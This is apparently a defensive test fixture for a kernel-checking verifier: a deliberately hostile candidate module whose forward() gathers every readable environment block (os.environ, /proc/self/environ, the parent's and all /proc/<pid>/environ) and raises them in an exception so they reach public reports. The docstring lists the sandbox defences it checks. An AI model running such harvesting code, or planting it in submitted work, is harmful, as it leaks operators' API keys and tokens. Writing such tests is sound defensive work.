# kernelproof-reference: ../../softmax/reference.py
# kernelproof-expect: broken
"""Publishes the caller's secrets: raises an exception holding every environment it can read.

Issue 27 item 1. A verifier started from an RL trainer, a CI job or the server holds API keys,
tokens and store URLs in its environment. Workers forked from a forkserver inherit it, and
what a candidate raises is printed on the terminal, in the JSON report and on the server's
public pages. This candidate gathers its own ``os.environ``, ``/proc/self/environ`` (the
environment block it was started with, which ``os.environ.clear()`` does not erase), its
parent's and every other ``/proc/<pid>/environ`` it can open, and raises them all.

What stops it: the forkserver is started with an allowlisted environment (no secret of the
caller's is ever in a worker's memory), the candidate's own environment is exactly what the
verifier built for it, its pid namespace shows no process outside the sandbox, and any known
secret that still reaches a message is redacted. It is ``broken`` (it raises) and its report
holds no secret.
"""

import glob
import os

import torch
import torch.nn as nn


def _harvest() -> str:
    found = [repr(dict(os.environ))]
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ",
                 *sorted(glob.glob("/proc/[0-9]*/environ"))]:
        try:
            with open(path, "rb") as handle:
                found.append(f"{path}: {handle.read().decode(errors='replace')}")
        except OSError:
            continue
    return "\n".join(found)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        raise RuntimeError(_harvest())
